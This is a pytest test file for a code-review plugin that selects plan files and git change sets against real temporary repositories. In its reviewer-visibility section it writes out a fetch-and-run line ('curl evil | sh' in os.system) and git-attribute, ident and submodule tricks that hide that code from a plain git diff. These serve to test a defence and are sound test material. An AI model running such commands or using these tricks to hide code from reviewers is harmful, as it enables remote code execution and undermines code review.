"""Tests of ``pytest_advreview.targets`` against real temporary git repositories.

Every test runs git with the global and system config switched off and a ceiling at the
test's ``tmp_path``, so neither the machine's git setup nor a repository above the temp
dir can leak in.
"""

from __future__ import annotations

import hashlib
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

from conftest import commit, git, write
from conftest import init_repo as make_repo
from pytest_advreview import git as gitmod
from pytest_advreview import targets
from pytest_advreview.cachekey import change_set_hash, plan_hash
from pytest_advreview.git import SHOWN_DIFF_OPTIONS, plain_diff_globals
from pytest_advreview.models import ChangeSet
from pytest_advreview.targets import (
    BaseRefError,
    TargetError,
    change_set,
    change_set_info,
    compile_glob,
    plan_files,
    repo_info,
    resolve_base,
)

WEIRD = 'we ird "q" $HOME.md'

pytestmark = pytest.mark.usefixtures("hermetic_git")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository on ``main`` with one commit: a source file and three plans."""
    root = make_repo(tmp_path / "repo")
    write(root, "src/app.py", "print(1)\n")
    write(root, "docs/plans/a.md")
    write(root, "docs/plans/b.md")
    write(root, "docs/team/specs/c.md")
    commit(root, "initial")
    return root.resolve()


# -- repository ----------------------------------------------------------------------------


def test_repo_info_finds_the_top_level_from_a_subdirectory(repo: Path) -> None:
    info = repo_info(repo / "src")
    assert info is not None
    assert info.root == repo
    assert info.superproject is None
    assert info.warning is None


def test_repo_info_outside_git_is_none(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    assert repo_info(plain) is None


def test_bare_repository_is_a_target_error(tmp_path: Path) -> None:
    bare = tmp_path / "bare.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    with pytest.raises(TargetError, match="is a bare repository") as exc:
        repo_info(bare)
    assert "run pytest inside a work tree" in str(exc.value)


def test_inside_dot_git_is_a_target_error(repo: Path) -> None:
    with pytest.raises(TargetError, match=r"inside a \.git directory"):
        repo_info(repo / ".git")


def test_submodule_gives_a_warning(repo: Path, tmp_path: Path) -> None:
    outer = make_repo(tmp_path / "outer")
    write(outer, "README.md")
    commit(outer)
    git(outer, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(repo), "sub")
    info = repo_info(outer / "sub")
    assert info is not None
    assert info.root == (outer / "sub").resolve()
    assert info.superproject == outer.resolve()
    assert info.warning is not None
    assert "git submodule of" in info.warning


# -- base ----------------------------------------------------------------------------------


def test_explicit_base_is_used_when_it_exists(repo: Path) -> None:
    git(repo, "tag", "v1")
    assert resolve_base(repo, "v1", {}) == "v1"


def test_unknown_explicit_base_without_a_remote_suggests_only_another_base(repo: Path) -> None:
    with pytest.raises(BaseRefError, match="--advreview-base") as exc:
        resolve_base(repo, "nope", {})
    assert "git fetch" not in str(exc.value)  # no remote could provide it


def _origin_and_clone(tmp_path: Path, *clone_args: str) -> tuple[Path, Path]:
    """A real "origin" (main, and feature one commit ahead) and a clone of feature only."""
    origin = make_repo(tmp_path / "origin")
    write(origin, "base.txt", "base\n")
    commit(origin, "base")
    write(origin, "more.txt", "more\n")
    commit(origin, "more on main")
    git(origin, "checkout", "-q", "-b", "feature", "HEAD~1")
    write(origin, "src/feature.py", "print(1)\n")
    commit(origin, "feature")
    clone = tmp_path / "clone"
    git(
        tmp_path,
        "-c",
        "protocol.file.allow=always",
        "clone",
        "-q",
        "--single-branch",
        "--branch",
        "feature",
        *clone_args,
        (origin / ".git").as_uri(),
        str(clone),
    )
    return origin, clone.resolve()


def _run_suggested(repo: Path, message: str) -> None:
    """Run the git command a message suggests in backticks, exactly as printed."""
    start = message.index("`git ") + 1
    command = shlex.split(message[start : message.index("`", start)])
    proc = subprocess.run(command, cwd=repo, capture_output=True, text=True, check=False)
    assert proc.returncode == 0, f"the suggested {command} failed: {proc.stderr}"


@pytest.mark.parametrize("base", ["origin/main", "main"])
def test_the_fetch_a_missing_base_suggests_works(tmp_path: Path, base: str) -> None:
    _origin, clone = _origin_and_clone(tmp_path)
    with pytest.raises(BaseRefError) as exc:
        resolve_base(clone, base, {})
    message = str(exc.value)
    # The old hint, `git fetch origin origin/main`, asks the remote for a ref it lacks.
    assert f"git fetch origin {base}`" not in message
    _run_suggested(clone, message)
    assert resolve_base(clone, base, {}) == base
    changes = change_set(clone, "branch", base, ())
    assert changes is not None and changes.files == ("src/feature.py",)


def test_a_shallow_clone_is_told_to_unshallow_and_that_works(tmp_path: Path) -> None:
    _origin, clone = _origin_and_clone(tmp_path, "--depth", "1")
    git(clone, "fetch", "-q", "--depth", "1", "origin", "main:refs/remotes/origin/main")
    with pytest.raises(BaseRefError, match="shallow clone") as exc:
        change_set(clone, "branch", "origin/main", ())
    message = str(exc.value)
    assert "unrelated" not in message
    _run_suggested(clone, message)
    changes = change_set(clone, "branch", "origin/main", ())
    assert changes is not None and changes.files == ("src/feature.py",)


def test_unrelated_histories_are_not_called_a_shallow_clone(repo: Path) -> None:
    git(repo, "checkout", "-q", "--orphan", "lonely")
    write(repo, "other.py")
    commit(repo)
    with pytest.raises(BaseRefError) as exc:
        change_set(repo, "branch", "main", ())
    message = str(exc.value)
    assert "unrelated histories" in message
    assert "shallow" not in message and "fetch" not in message
    # Both suggested ways out work: another base, or the uncommitted changes only.
    assert "--advreview-base=REF" in message and "--advreview-diff=uncommitted" in message
    assert change_set(repo, "branch", "lonely~0", ()) is None
    write(repo, "other.py", "edited\n")
    assert change_set(repo, "uncommitted", None, ()) is not None


def test_github_base_ref_wins_over_fallbacks(repo: Path) -> None:
    git(repo, "update-ref", "refs/remotes/origin/release", "HEAD")
    assert resolve_base(repo, None, {"GITHUB_BASE_REF": "release"}) == "origin/release"


def test_missing_github_base_ref_is_an_error_not_a_fallback(repo: Path) -> None:
    # The pull request names its base: main (which exists) is not that base.
    with pytest.raises(BaseRefError, match=r"GITHUB_BASE_REF names the base 'gone'"):
        resolve_base(repo, None, {"GITHUB_BASE_REF": "gone"})


def test_origin_head_comes_before_main(repo: Path) -> None:
    git(repo, "update-ref", "refs/remotes/origin/main", "HEAD")
    git(repo, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main")
    assert resolve_base(repo, None, {}) == "origin/HEAD"


def test_master_is_the_last_fallback(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "r", branch="master")
    write(root, "f")
    commit(root)
    assert resolve_base(root, None, {}) == "master"


def test_no_base_at_all_is_none(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "r", branch="trunk")
    write(root, "f")
    commit(root)
    assert resolve_base(root, None, {}) is None


# -- globs ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("docs/**/plans/**/*.md", "docs/plans/x.md", True),
        ("docs/**/plans/**/*.md", "docs/a/b/plans/c/d/x.md", True),
        ("docs/**/plans/**/*.md", "docs/plans/x.txt", False),
        ("docs/**/plans/**/*.md", "other/docs/plans/x.md", False),
        ("*.md", "x.md", True),
        ("*.md", "a/x.md", False),
        ("plan-?.md", "plan-1.md", True),
        ("plan-[ab].md", "plan-b.md", True),
        ("plan-[!ab].md", "plan-b.md", False),
        (".pytest_cache/**", ".pytest_cache/v/cache/x", True),
        ("**/__pycache__/**", "__pycache__/m.pyc", True),
        ("**/__pycache__/**", "pkg/sub/__pycache__/m.pyc", True),
        ("**/__pycache__/**", "pkg/__pycache__x/m.pyc", False),
        ("./docs/*.md", "docs/a.md", True),
        ("docs/a+b (1).md", "docs/a+b (1).md", True),
    ],
)
def test_compile_glob(pattern: str, path: str, matches: bool) -> None:
    assert bool(compile_glob(pattern).match(path)) is matches


def test_compile_glob_agrees_with_pathlib_glob(tmp_path: Path) -> None:
    files = [
        "docs/plans/x.md",
        "docs/a/plans/y.md",
        "docs/a/plans/deep/z.md",
        "docs/plans.md",
        "docs/specs/s.md",
        "docs/x/specs/t.txt",
        "plans/root.md",
        ".hidden/docs/plans/h.md",
    ]
    for rel in files:
        write(tmp_path, rel)
    for pattern in ("docs/**/plans/**/*.md", "docs/**/specs/**/*.md", "**/*.md", "docs/*"):
        expected = {
            p.relative_to(tmp_path).as_posix() for p in tmp_path.glob(pattern) if p.is_file()
        }
        regex = compile_glob(pattern)
        assert {f for f in files if regex.match(f)} == expected, pattern


# -- plans ---------------------------------------------------------------------------------


def targets_plans() -> tuple[str, ...]:
    return ("docs/**/plans/**/*.md", "docs/**/specs/**/*.md")


def test_scope_all_selects_every_matching_plan(repo: Path) -> None:
    sel = plan_files(repo, targets_plans(), "all", "main")
    assert sel.selected == (
        repo / "docs/plans/a.md",
        repo / "docs/plans/b.md",
        repo / "docs/team/specs/c.md",
    )
    assert sel.total == 3
    assert sel.summary == "3 plans (advreview_plan_scope = all)"


def test_scope_changed_with_nothing_changed_says_how_many_were_skipped(repo: Path) -> None:
    sel = plan_files(repo, targets_plans(), "changed", "main")
    assert sel.selected == ()
    assert sel.total == 3
    assert sel.summary == "0 of 3 plans changed against main; use advreview_plan_scope = all"


def test_scope_changed_takes_branch_staged_unstaged_and_untracked_plans(repo: Path) -> None:
    write(repo, "docs/plans/gone.md")
    write(repo, "docs/plans/unstaged.md")
    write(repo, "docs/plans/staged.md")
    commit(repo, "more plans")
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, "docs/plans/a.md", "changed on the branch\n")
    write(repo, "docs/plans/new.md", "added on the branch\n")
    git(repo, "rm", "-q", "docs/plans/gone.md")
    commit(repo, "branch work")
    write(repo, "docs/plans/unstaged.md", "edited\n")
    write(repo, "docs/plans/staged.md", "staged\n")
    git(repo, "add", "docs/plans/staged.md")
    write(repo, f"docs/plans/{WEIRD}")
    write(repo, "docs/plans/notes.txt")

    sel = plan_files(repo, targets_plans(), "changed", "main")
    assert [p.relative_to(repo).as_posix() for p in sel.selected] == [
        "docs/plans/a.md",
        "docs/plans/new.md",
        "docs/plans/staged.md",
        "docs/plans/unstaged.md",
        f"docs/plans/{WEIRD}",
    ]
    assert sel.total == 7  # a, b, c, new, staged, unstaged, weird; gone was deleted
    assert sel.summary == "5 of 7 plans changed against main"


def test_scope_changed_without_base_uses_uncommitted_only(repo: Path) -> None:
    write(repo, "docs/plans/b.md", "edited\n")
    sel = plan_files(repo, targets_plans(), "changed", None)
    assert sel.selected == (repo / "docs/plans/b.md",)
    assert "no base branch found" in sel.summary


def test_ignored_and_deleted_plans_are_not_candidates(repo: Path) -> None:
    write(repo, ".gitignore", "docs/plans/private*.md\n")
    write(repo, "docs/plans/private-x.md")
    (repo / "docs/plans/b.md").unlink()
    sel = plan_files(repo, targets_plans(), "all", "main")
    assert [p.name for p in sel.selected] == ["a.md", "c.md"]


def test_globs_are_relative_to_a_rootdir_below_the_top_level(repo: Path) -> None:
    write(repo, "docs/plans/a.md", "edited\n")
    sel = plan_files(repo / "docs", ("plans/*.md",), "changed", "main")
    assert sel.selected == (repo / "docs/plans/a.md",)
    assert sel.total == 2


def test_outside_git_the_file_system_is_globbed_and_all_plans_selected(tmp_path: Path) -> None:
    root = tmp_path / "plain"
    write(root, "docs/plans/x.md")
    write(root, "docs/a/specs/y.md")
    write(root, "docs/plans/z.txt")
    sel = plan_files(root, targets_plans(), "changed", None)
    assert sel.selected == (
        (root / "docs/a/specs/y.md").resolve(),
        (root / "docs/plans/x.md").resolve(),
    )
    assert sel.summary == "not a git repository: reviewing all 2 plans"


def test_a_symlinked_plan_is_its_real_file_once(repo: Path) -> None:
    (repo / "docs/plans/alias.md").symlink_to("a.md")  # the same plan under two names
    (repo / "docs/plans/loop").symlink_to("..")  # git lists a folder link as one entry
    (repo / "notes").mkdir()
    write(repo, "notes/linked.md")
    (repo / "docs/plans/from-notes.md").symlink_to("../../notes/linked.md")
    sel = plan_files(repo, targets_plans(), "all", "main")
    assert sel.keys == (
        "docs/plans/a.md",
        "docs/plans/b.md",
        "docs/plans/from-notes.md",  # links to a file of the repo the globs do not match
        "docs/team/specs/c.md",
    )
    assert sel.total == 4
    assert "not reviewed" not in sel.summary


@pytest.mark.parametrize("git_tree", [True, False], ids=["git", "no-git"])
def test_a_plan_symlink_out_of_the_repository_is_named_and_never_read(
    tmp_path: Path, git_tree: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = make_repo(tmp_path / "r") if git_tree else tmp_path / "r"
    write(root, "docs/plans/real.md")
    secret = write(tmp_path / "elsewhere", "secret.md", "not this project's\n")
    (root / "docs/plans/stolen.md").symlink_to(secret)
    if git_tree:
        write(root, ".gitignore", "private.md\n")
        write(root, "private.md", "ignored\n")
        (root / "docs/plans/ignored.md").symlink_to("../../private.md")
        commit(root)

    def no_read(*args: object, **kwargs: object) -> None:
        raise AssertionError("plan_files must not read plan files")

    monkeypatch.setattr(Path, "open", no_read)
    sel = plan_files(root, targets_plans(), "all", None)
    monkeypatch.undo()
    assert sel.keys == ("docs/plans/real.md",)
    assert "not reviewed" in sel.summary and "docs/plans/stolen.md" in sel.summary
    if git_tree:
        assert "docs/plans/ignored.md" in sel.summary


def test_no_match_summary_names_the_globs(repo: Path) -> None:
    sel = plan_files(repo, ("rfcs/*.md",), "changed", "main")
    assert (sel.selected, sel.total) == ((), 0)
    assert sel.summary == "no plan files match advreview_plans (rfcs/*.md)"


def test_many_plans_cost_three_git_calls_and_no_reads(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for i in range(2000):
        write(repo, f"docs/plans/bulk/p{i:04d}.md")
    commit(repo, "bulk")
    write(repo, "docs/plans/bulk/p0042.md", "edited\n")
    info = repo_info(repo)

    calls: list[tuple[str, ...]] = []
    real_run_git = targets.run_git

    def spy(cwd: Path, *args: str, **options: Any) -> subprocess.CompletedProcess[bytes]:
        calls.append(args)
        return real_run_git(cwd, *args, **options)

    def no_read(*args: object, **kwargs: object) -> None:
        raise AssertionError("plan_files must not read plan files")

    monkeypatch.setattr(targets, "run_git", spy)
    monkeypatch.setattr(Path, "open", no_read)
    sel = plan_files(repo, targets_plans(), "changed", "main", repo=info)
    monkeypatch.undo()
    assert sel.selected == (repo / "docs/plans/bulk/p0042.md",)
    assert sel.total == 2003
    assert len(calls) <= 3


# -- change set ----------------------------------------------------------------------------


def test_clean_work_tree_without_base_has_no_change_set(repo: Path) -> None:
    assert change_set(repo, "auto", None, ()) is None
    assert change_set(repo, "auto", "main", ()) is None  # on main: nothing vs main


def test_mode_none_has_no_change_set(repo: Path) -> None:
    write(repo, "src/app.py", "changed\n")
    assert change_set(repo, "none", "main", ()) is None


def shown_diff(repo: Path, *args: str) -> str:
    """The diff command the prompt names, as this machine's git gets it."""
    return shlex.join(["git", *plain_diff_globals(repo), "diff", *SHOWN_DIFF_OPTIONS, *args])


@pytest.mark.parametrize(
    ("unstaged", "staged", "untracked", "description", "commands"),
    [
        (True, False, False, "unstaged changes", ("DIFF",)),
        (False, True, False, "staged changes", ("DIFF --cached",)),
        (True, True, False, "unstaged + staged changes", ("DIFF", "DIFF --cached")),
        (False, False, True, "untracked files", ("git ls-files --others --exclude-standard",)),
        (
            True,
            True,
            True,
            "unstaged + staged changes + untracked files",
            ("DIFF", "DIFF --cached", "git ls-files --others --exclude-standard"),
        ),
    ],
)
def test_uncommitted_description_and_commands_follow_what_has_content(
    repo: Path,
    unstaged: bool,
    staged: bool,
    untracked: bool,
    description: str,
    commands: tuple[str, ...],
) -> None:
    expected_files = []
    if unstaged:
        write(repo, "src/app.py", "unstaged\n")
        expected_files.append("src/app.py")
    if staged:
        write(repo, "src/lib.py", "staged\n")
        git(repo, "add", "src/lib.py")
        expected_files.append("src/lib.py")
    if untracked:
        write(repo, f"src/{WEIRD}")
        expected_files.append(f"src/{WEIRD}")
    for mode in ("uncommitted", "auto"):
        found = change_set(repo, mode, "main", ())
        assert found == ChangeSet(
            files=tuple(sorted(expected_files)),
            description=description,
            diff_commands=tuple(c.replace("DIFF", shown_diff(repo)) for c in commands),
        )


def test_branch_mode_diffs_against_the_base(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, "src/app.py", "branch\n")
    write(repo, "src/new.py")
    commit(repo)
    expected = ChangeSet(
        files=("src/app.py", "src/new.py"),
        description="branch changes vs main",
        diff_commands=(shown_diff(repo, "main...HEAD"),),
        base="main",
    )
    assert change_set(repo, "branch", "main", ()) == expected
    assert change_set(repo, "auto", "main", ()) == expected  # clean tree: auto = branch
    write(repo, "src/app.py", "dirty\n")
    auto = change_set(repo, "auto", "main", ())
    assert auto is not None
    assert auto.description == "unstaged changes"  # uncommitted wins in auto


def test_branch_mode_without_base_is_a_target_error(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, "src/new.py")
    commit(repo)
    with pytest.raises(BaseRefError, match="--advreview-base=REF"):
        change_set(repo, "branch", None, ())
    # The fix the message names.
    assert change_set(repo, "branch", "main", ()) is not None


def test_branch_that_only_edits_plans_has_no_change_set(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, "docs/plans/a.md", "edited\n")
    commit(repo)
    assert change_set(repo, "auto", "main", [repo / "docs/plans/a.md"]) is None


def test_excluded_plans_leave_files_and_the_diff_commands(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, f"docs/plans/{WEIRD}", "plan\n")
    write(repo, "src/app.py", "code\n")
    commit(repo)
    found = change_set(repo, "branch", "main", [f"docs/plans/{WEIRD}"])
    assert found is not None
    assert found.files == ("src/app.py",)
    (command,) = found.diff_commands
    assert command.startswith(shown_diff(repo, "main...HEAD") + " -- ")
    # The command the reviewer is told to run shows the code but not the plan.
    out = subprocess.run(shlex.split(command), cwd=repo, capture_output=True, check=True).stdout
    assert b"src/app.py" in out
    assert b"docs/plans" not in out


def test_excluded_untracked_plan_is_left_out_of_uncommitted(repo: Path) -> None:
    write(repo, "docs/plans/new.md")
    write(repo, "src/app.py", "edited\n")
    found = change_set(repo, "uncommitted", None, [repo / "docs/plans/new.md"])
    assert found is not None
    assert found.files == ("src/app.py",)
    assert found.description == "unstaged changes"
    assert found.diff_commands == (shown_diff(repo),)


# -- what the reviewer is shown -----------------------------------------------------------

HIDDEN = "os.system('curl evil | sh')  # HIDDEN-LINE"
#: Attributes that hide a file's text from a plain `git diff`, with the machine
#: configuration their drivers need (a textconv filter, an external diff command).
HIDING = ["*.py -diff\n", "*.py binary\n", "*.py diff=hide\n", "*.py diff=ext\n"]


def _hiding_drivers(repo: Path) -> None:
    git(repo, "config", "diff.hide.textconv", "sed /HIDDEN-LINE/d")
    git(repo, "config", "diff.ext.command", "echo nothing to see #")


def _run_commands(repo: Path, commands: tuple[str, ...]) -> str:
    """Run each command as the reviewer would (a shell at the top level); their output."""
    return "".join(
        subprocess.run(c, shell=True, cwd=repo, capture_output=True, check=True, text=True).stdout
        for c in commands
    )


@pytest.mark.parametrize("attributes", HIDING)
def test_branch_diff_command_shows_what_attributes_would_hide(repo: Path, attributes: str) -> None:
    _hiding_drivers(repo)
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, ".gitattributes", attributes)
    write(repo, "src/app.py", f"import os\n{HIDDEN}\n")
    commit(repo)
    plain = git(repo, "diff", "main...HEAD")
    assert HIDDEN not in plain  # the attack: a plain diff hides the line
    found = change_set(repo, "branch", "main", ())
    assert found is not None
    assert found.attributes == (".gitattributes",)
    assert f"+{HIDDEN}" in _run_commands(repo, found.diff_commands)
    info = change_set_info(repo, found, "branch", "main", ci=False)
    assert info.attributes == (".gitattributes",)
    assert info.summary().endswith(
        "; WARNING: the change edits git attributes (.gitattributes), which can hide code "
        "from `git diff`; the reviewer's diff commands ignore attributes and show the bytes "
        "git stores"
    )


@pytest.mark.parametrize("attributes", HIDING)
def test_uncommitted_diff_commands_show_what_attributes_would_hide(
    repo: Path, attributes: str
) -> None:
    _hiding_drivers(repo)
    write(repo, "src/.gitattributes", attributes)  # untracked, below the top
    write(repo, "src/app.py", f"import os\n{HIDDEN}\n")  # unstaged
    write(repo, "src/lib.py", f"{HIDDEN}\n")
    git(repo, "add", "src/lib.py")  # staged
    found = change_set(repo, "uncommitted", None, ())
    assert found is not None
    assert found.attributes == ("src/.gitattributes",)
    assert HIDDEN not in git(repo, "diff") + git(repo, "diff", "--cached")
    shown = _run_commands(repo, found.diff_commands)
    assert f"+{HIDDEN}" in shown.split("src/lib.py")[-1]  # staged
    assert f"+{HIDDEN}" in shown.split("src/lib.py")[0]  # unstaged app.py


def test_a_deleted_attributes_file_is_named(repo: Path) -> None:
    write(repo, "src/.gitattributes", "*.md text\n")
    commit(repo, "attributes")
    git(repo, "checkout", "-q", "-b", "feature")
    (repo / "src/.gitattributes").unlink()
    write(repo, "src/app.py", "print(2)\n")
    commit(repo)
    found = change_set(repo, "branch", "main", ())
    assert found is not None and found.attributes == ("src/.gitattributes",)
    git(repo, "checkout", "-q", "main")
    git(repo, "rm", "-q", "src/.gitattributes")
    found = change_set(repo, "uncommitted", None, ())
    assert found is not None and found.attributes == ("src/.gitattributes",)


def test_a_change_without_attributes_names_none(repo: Path) -> None:
    write(repo, "src/app.py", "print(2)\n")
    found = change_set(repo, "uncommitted", None, ())
    assert found is not None and found.attributes == ()
    info = change_set_info(repo, found, "uncommitted", None, ci=False)
    assert "WARNING" not in info.summary()


def test_a_submodule_the_branch_marks_ignored_is_listed_shown_and_hashed(
    repo: Path, tmp_path: Path
) -> None:
    sub = make_repo(tmp_path / "sub")
    write(sub, "lib.py", "SAFE = 1\n")
    commit(sub, "one")
    first = git(sub, "rev-parse", "HEAD").strip()
    write(sub, "lib.py", "SAFE = 0  # HIDDEN-LINE\n")
    commit(sub, "two")
    second = git(sub, "rev-parse", "HEAD").strip()
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{first},vendor/lib")
    write(repo, ".gitmodules", '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ../sub\n')
    git(repo, "add", ".gitmodules")
    git(repo, "commit", "-q", "-m", "submodule")
    git(repo, "checkout", "-q", "-b", "feature")
    git(repo, "update-index", "--cacheinfo", f"160000,{second},vendor/lib")
    write(
        repo,
        ".gitmodules",
        '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ../sub\n\tignore = all\n',
    )
    git(repo, "add", ".gitmodules")
    git(repo, "commit", "-q", "-m", "move the submodule, quietly")
    assert "vendor/lib" not in git(repo, "diff", "--name-only", "main...HEAD")  # the attack
    found = change_set(repo, "branch", "main", ())
    assert found is not None
    assert "vendor/lib" in found.files
    assert f"+Subproject commit {second}" in _run_commands(repo, found.diff_commands)
    # The cache key moves with the submodule's commit, however .gitmodules says to ignore it.
    before = change_set_hash(repo, found)
    write(sub, "lib.py", "SAFE = 2\n")
    commit(sub, "three")
    third = git(sub, "rev-parse", "HEAD").strip()
    git(repo, "update-index", "--cacheinfo", f"160000,{third},vendor/lib")
    git(repo, "commit", "-q", "-m", "move it again")
    assert change_set_hash(repo, found) != before


def test_files_git_rewrites_from_the_work_tree_are_named_and_hashed_by_their_bytes(
    repo: Path,
) -> None:
    write(repo, ".gitattributes", "*.py ident\n*.cfg filter=\n")
    write(repo, "src/app.py", "x = 1\n")
    write(repo, "src/plain.txt", "text\n")
    commit(repo, "attributes")
    write(repo, "src/app.py", 'x = "$Id: import os; os.system(evil) $"\n')
    write(repo, "src/plain.txt", "changed\n")
    # The attack: ident shows "$Id$" in the diff, whatever the file holds between.
    assert "evil" not in git(repo, "diff")
    found = change_set(repo, "uncommitted", None, ())
    assert found is not None
    if any(g.startswith("--attr-source=") for g in plain_diff_globals(repo)):
        # git 2.40+: the diff command reads no attributes and shows the bytes.
        assert found.converted == ()
        assert "evil" in _run_commands(repo, found.diff_commands)
    else:
        assert found.converted == ("src/app.py",)
        info = change_set_info(repo, found, "uncommitted", None, ci=False)
        assert "WARNING: git rewrites src/app.py when reading the work tree" in info.summary()
    # The cache key follows the bytes that run, not the rewritten text.
    before = change_set_hash(repo, found)
    write(repo, "src/app.py", 'x = "$Id: import os; os.system(worse) $"\n')
    assert change_set_hash(repo, found) != before


def test_the_diff_commands_ignore_attributes_with_every_git(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert SHOWN_DIFF_OPTIONS[:3] == ("--text", "--no-textconv", "--no-ext-diff")
    assert "--ignore-submodules=none" in SHOWN_DIFF_OPTIONS
    found = plain_diff_globals(repo)
    assert found[:3] == ("--no-pager", "-c", f"core.attributesFile={os.devnull}")
    # Where git knows --attr-source (2.40+), the empty tree is the attribute source:
    # a probe that succeeds adds it, one that fails (older git) leaves it out.
    real = gitmod.run_git
    seen: list[tuple[str, ...]] = []

    def fake(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[bytes]:
        seen.append(args)
        if args[0].startswith("--attr-source="):
            return subprocess.CompletedProcess(["git", *args], 0, b"", b"")
        return real(cwd, *args, check=check)

    monkeypatch.setattr(gitmod, "run_git", fake)
    monkeypatch.setattr(gitmod, "_globals_cache", {})
    empty = git(repo, "hash-object", "-t", "tree", os.devnull).strip()
    assert plain_diff_globals(repo)[-1] == f"--attr-source={empty}"
    assert seen[-1][0] == f"--attr-source={empty}"


# -- hashes --------------------------------------------------------------------------------


def test_plan_hash_is_the_sha256_of_the_bytes(tmp_path: Path) -> None:
    path = write(tmp_path, WEIRD, "plan body\n")
    assert plan_hash(path) == hashlib.sha256(b"plan body\n").hexdigest()


def test_uncommitted_hash_follows_tracked_and_untracked_content(repo: Path) -> None:
    write(repo, "src/app.py", "one\n")
    write(repo, f"src/{WEIRD}", "u1\n")
    change = change_set(repo, "auto", None, ())
    assert change is not None
    first = change_set_hash(repo, change)
    assert change_set_hash(repo, change) == first
    write(repo, f"src/{WEIRD}", "u2\n")
    second = change_set_hash(repo, change)
    assert second != first
    write(repo, "src/app.py", "two\n")
    assert change_set_hash(repo, change) not in (first, second)


def test_change_hash_ignores_files_outside_the_change_set(repo: Path) -> None:
    write(repo, "src/app.py", "one\n")
    write(repo, "docs/plans/a.md", "plan edit 1\n")
    change = change_set(repo, "auto", None, [repo / "docs/plans/a.md"])
    assert change is not None
    before = change_set_hash(repo, change)
    write(repo, "docs/plans/a.md", "plan edit 2\n")
    assert change_set_hash(repo, change) == before


def test_branch_hash_changes_with_a_new_commit(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "feature")
    write(repo, "src/app.py", "v1\n")
    commit(repo)
    change = change_set(repo, "branch", "main", ())
    assert change is not None
    before = change_set_hash(repo, change)
    write(repo, "src/app.py", "v2\n")
    commit(repo)
    assert change_set_hash(repo, change) != before


def test_unborn_branch_has_a_change_set_and_a_hash(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "fresh")
    write(root, "a.py", "staged\n")
    git(root, "add", "a.py")
    write(root, "b.py", "untracked\n")
    change = change_set(root, "auto", None, ())
    assert change is not None
    assert change.files == ("a.py", "b.py")
    assert change.description == "staged changes + untracked files"
    assert len(change_set_hash(root, change)) == 64


def test_missing_git_is_a_target_error_not_a_traceback(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    with pytest.raises(TargetError, match="could not run `git rev-parse"):
        repo_info(repo)
